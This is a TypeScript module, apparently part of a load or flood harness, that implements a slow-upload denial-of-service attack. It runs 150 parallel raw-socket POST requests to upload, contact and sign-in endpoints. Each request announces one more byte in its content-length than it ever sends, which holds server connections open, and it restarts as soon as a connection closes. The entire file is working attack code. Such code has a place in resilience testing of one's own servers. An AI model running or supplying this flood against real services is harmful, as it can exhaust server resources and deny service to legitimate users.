import { connect } from "node:net";
import { type PrepareFlood, sendInParallel } from "./flood.ts";

/** How many uploads run in parallel. */
const parallelUploads = 150;
/** After this many milliseconds, the attacker closes an unfinished upload if the server has not closed it. */
const uploadTimeoutMs = 2_000;

const bodyChunk = Buffer.alloc(256 * 1024, "x");
/**
 * The unfinished uploads, and how many bytes of each are sent. The `content-length` header announces one byte more,
 * which is never sent.
 */
const strangerRequests = [
  { path: "/api/users/avatar", type: "image/png", bytes: 4 * 1024 * 1024 },
  { path: "/api/contact", type: "application/json", bytes: 160 * 1024 },
  { path: "/api/sign-in", type: "application/json", bytes: 16_000 },
  { path: "/contact", type: "application/x-www-form-urlencoded", bytes: 60 * 1024 },
];

/** Each of 150 strangers begins an upload, never finishes it, and then begins the next one. */
export const beginUnfinishedUploads: PrepareFlood =
  async ({ url }) =>
  (endTimeMs) =>
    sendInParallel(parallelUploads, endTimeMs, (requestNumber) => {
      const request = strangerRequests[requestNumber % strangerRequests.length] ?? strangerRequests[0];
      return beginUpload(url, request as (typeof strangerRequests)[number]);
    });

function beginUpload(url: string, { path, type, bytes }: (typeof strangerRequests)[number]): Promise<number> {
  const { hostname, port, host } = new URL(url);
  return new Promise((resolve) => {
    let status = 0;
    let bytesLeft = bytes;
    const socket = connect(Number(port), hostname);
    const timer = setTimeout(() => socket.destroy(), uploadTimeoutMs);
    const writeChunk = () => {
      while (bytesLeft > 0 && !socket.destroyed) {
        const nextBytes = bodyChunk.subarray(0, bytesLeft);
        bytesLeft -= nextBytes.length;
        if (!socket.write(nextBytes)) return;
      }
    };
    socket.on("drain", writeChunk);
    socket.on("data", (data) => {
      status ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(data.toString("latin1"))?.[1] ?? 0);
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      clearTimeout(timer);
      resolve(status);
    });
    socket.write(
      `POST ${path} HTTP/1.1\r\nhost: ${host}\r\ncontent-type: ${type}\r\ncontent-length: ${bytes + 1}\r\n\r\n`,
    );
    writeChunk();
  });
}
